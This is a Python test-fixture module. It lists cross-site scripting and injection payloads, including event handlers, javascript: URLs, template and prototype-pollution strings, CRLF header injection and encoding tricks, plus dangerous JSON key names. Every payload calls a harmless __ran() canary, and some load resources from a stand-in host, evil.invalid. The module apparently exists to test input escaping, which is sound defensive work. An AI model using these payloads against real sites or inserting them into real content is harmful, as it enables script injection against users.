"""What attackers write into names and messages. Each calls ``__ran()`` if any of it is taken for more than text."""

from __future__ import annotations

PAYLOADS: dict[str, str] = {
    "script": "<script>__ran()</script>",
    "image": "<img src=x onerror=__ran()>",
    "svg": "<svg onload=__ran()>",
    "svg script": "<svg><script>__ran()</script></svg>",
    "end of an attribute": '"><img src=x onerror="__ran()">',
    "end of a quoted attribute": "' onmouseover='__ran()' autofocus tabindex=1 onfocus='__ran()",
    "address": "javascript:__ran()",
    "link": '<a href="javascript:__ran()" id=x>x</a>',
    "data address": "data:text/html,<script>parent.__ran()</script>",
    "frame with a document": '<iframe srcdoc="<script>parent.__ran()</script>"></iframe>',
    "frame with an address": '<iframe src="javascript:parent.__ran()"></iframe>',
    "body": "<body onload=__ran()><video><source onerror=__ran()></video>",
    "details": "<details open ontoggle=__ran()>x</details>",
    "field": "<input autofocus onfocus=__ran()><form action=javascript:__ran()><button>x</button></form>",
    "style": "<style>@import url(http://evil.invalid/a.css);*{background:url(http://evil.invalid/b)}</style>",
    "style attribute": "x' style='background:url(http://evil.invalid/c);animation-name:x' onanimationstart='__ran()",
    "refresh": '<meta http-equiv=refresh content="0;url=//evil.invalid/d"><link rel=stylesheet href=//evil.invalid/e>',
    "base": "<base href=//evil.invalid/><script src=f.js></script>",
    "templates": "{{constructor.constructor('__ran()')()}} ${__ran()} #{__ran()} <%= __ran() %> [[__ran()]]",
    "end of everything": "--></title></textarea></style></script></noscript><script>__ran()</script>",
    "entities": "&lt;img src=x onerror=__ran()&gt; &#x3C;script&#x3E;__ran()&#x3C;/script&#x3E; &amp;lt;b&amp;gt;",
    "utf-7": "+ADw-script+AD4-__ran()+ADw-/script+AD4-",
    "escapes": r"\u003cscript\u003e__ran()\u003c/script\u003e %3Csvg onload=__ran()%3E \x3cimg src=x onerror=__ran()>",
    "wide characters": "\uff1cscript\uff1e__ran()\uff1c/script\uff1e \u2039img src=x onerror=__ran()\u203a",
    "direction and zero width": "\u202e<i\u200bmg src=x onerror=__ran()>\u2066<svg\u2028onload=__ran()>\ufeff",
    "mutation": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=__ran()&gt;">',
    "object": '<object data="javascript:__ran()"></object><embed src="javascript:__ran()">',
    "prototype": '{"__proto__":{"innerHTML":"<img src=x onerror=__ran()>","isPolluted":true}}',
    "lines": "a\r\nContent-Type: text/html\r\n\r\n<script>__ran()</script>\n\nevent: end\ndata: {}\n\n",
    "length": "A" * 9_000 + "<img src=x onerror=__ran()>",
}
"""By what they try."""

KEYS = ("__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "dangerouslySetInnerHTML", "ref", "key")
"""Names of fields that are more than names to a careless script."""


def nasty() -> dict[str, object]:
    """All payloads as values and as names of one JSON object."""
    found: dict[str, object] = {text[:300]: text for text in PAYLOADS.values()}
    return {**found, **{key: {"innerHTML": "<img src=x onerror=__ran()>", "isPolluted": True} for key in KEYS}}
